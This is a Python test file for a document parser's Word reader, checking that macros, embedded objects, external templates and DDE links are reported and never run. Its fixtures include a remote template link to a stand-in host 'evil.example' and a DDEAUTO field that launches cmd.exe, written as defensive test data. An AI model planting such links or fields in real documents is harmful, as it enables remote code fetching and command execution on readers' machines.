"""Macros and what reaches outside in Word files: reported, never run."""

from __future__ import annotations

import io
import zipfile

import pytest

from parsers.docx_samples import OFFICE, package, paragraph, read, run
from ragstone.parsers.read import read_document
from ragstone.sources.source import Source
from samples import make_zip


def with_members(**members: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package(paragraph("The tide.")))) as whole:
        found = {name: whole.read(name) for name in whole.namelist()}
    return make_zip(found | {name.replace("__", "/"): data for name, data in members.items()})


def test_macros_are_a_fact_and_a_warning_and_the_text_is_kept() -> None:
    data = with_members(**{"word__vbaProject.bin": b"Sub AutoOpen()"})
    document = read_document(Source.from_bytes(data, "order.docm"))

    assert document.parser == "docx"
    assert document.facts["macros"] is True
    assert "it has macros (VBA), which were not run" in document.warnings
    assert [element.text for element in document.elements] == ["The tide."]


def test_a_file_without_macros_says_nothing_of_them() -> None:
    document = read(with_members())

    assert "macros" not in document.facts
    assert document.warnings == ()


@pytest.mark.parametrize(
    "name", ["word__embeddings__oleObject1.bin", "word__activeX__activeX1.bin"]
)
def test_embedded_objects_are_reported(name: str) -> None:
    warnings = read(with_members(**{name: b"x"})).warnings

    assert warnings == ("it has embedded objects, which were not opened",)


def test_a_template_outside_is_reported_and_not_fetched() -> None:
    settings = (
        f'<Relationships><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" '
        'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    document = (
        f'<Relationships><Relationship Id="s" Type="{OFFICE}/settings" Target="settings.xml"/>'
        "</Relationships>"
    )
    warnings = read(
        with_members(
            **{
                "word___rels__document.xml.rels": document.encode(),
                "word__settings.xml": b"<w:settings xmlns:w='x'/>",
                "word___rels__settings.xml.rels": settings.encode(),
            }
        )
    ).warnings

    assert warnings == ("it names a template outside, which was not fetched",)


@pytest.mark.parametrize("code", ["DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;", " DDE Excel a"])
def test_links_to_programs_are_reported_and_not_followed(code: str) -> None:
    field = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
    body = f"<w:p>{field}<w:r><w:instrText>{code}</w:instrText></w:r>{run('x')}</w:p>"
    warnings = read(package(body)).warnings

    assert "it has DDE links to programs, which were not followed" in warnings
